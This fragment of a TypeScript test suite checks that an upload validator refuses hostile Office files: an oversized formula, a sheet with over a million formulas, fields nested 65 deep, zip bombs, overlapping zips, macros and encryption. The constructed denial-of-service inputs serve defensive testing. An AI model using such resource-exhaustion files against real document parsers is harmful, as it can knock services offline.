    assert.match(await x.file('xl/worksheets/sheet1.xml')!.async('string'), /<f>SUM\(B2:B3\)<\/f>/);
    assert.match(await x.file('xl/worksheets/_rels/sheet1.xml.rels')!.async('string'), /TargetMode="External"/);
    assert.match(await x.file('xl/worksheets/sheet2.xml')!.async('string'), /<f>SUM\(Metas\[2019\]\)<\/f>/);
  });

  test('an element too long to check in bounded pieces is refused as damaged', async () => {
    const started = performance.now();
    const r = refusal(await checkUpload('largo.xlsx', A.workbook([`1+${'1+'.repeat(1.5 * MB)}1`]), limits));
    assert.equal(r.code, 'damaged');
    assert.ok(performance.now() - started < 10_000, `${Math.round(performance.now() - started)} ms`);
  });

  test('more formulas than the budget for the file’s size (a million in a few kB) are refused in bounded time', async () => {
    const started = performance.now();
    const bytes = A.workbook([], {
      sheetXml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${'<c><f>1</f></c>'.repeat(1_000_001)}</row></sheetData></worksheet>`,
    });
    const r = refusal(await checkUpload('denso.xlsx', bytes, limits));
    assert.equal(r.code, 'too_complex', JSON.stringify(r));
    assert.equal(r.params.max, 1_000_000);
    assert.match(
      refusalMessage({ code: 'too_complex', params: r.params }, 'es'),
      /«denso\.xlsx» tiene más de 1000000 fórmulas, campos o vínculos/,
    );
    assert.ok(performance.now() - started < 10_000, `${Math.round(performance.now() - started)} ms (${bytes.length} bytes)`);
  });

  test('fields nested deeper than Word nests them are refused as damaged', async () => {
    const r = refusal(
      await checkUpload('anidado.docx', A.wordDoc(A.paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(65))), limits),
    );
    assert.equal(r.code, 'damaged');
  });

  test('macros and encryption keep their own words, with the part', () => {
    assert.match(
      refusalMessage({ code: 'macros', params: { name: 'a.docx', part: '[Content_Types].xml' } }, 'es'),
      /«a\.docx» contiene macros \(\[Content_Types\]\.xml\)/,
    );
    assert.match(
      refusalMessage({ code: 'encrypted', params: { name: 'a.odt', part: 'META-INF/manifest.xml' } }, 'en'),
      /“a\.odt” is encrypted/,
    );
  });

  test('the existing hostile zips are still refused as before', async () => {
    assert.equal(refusal(await checkUpload('informe.docx', S.bombDocx(60), limits)).code, 'archive_too_large');
    assert.equal(refusal(await checkUpload('informe.docx', S.overlappingDocx(), limits)).code, 'damaged');
  });
});
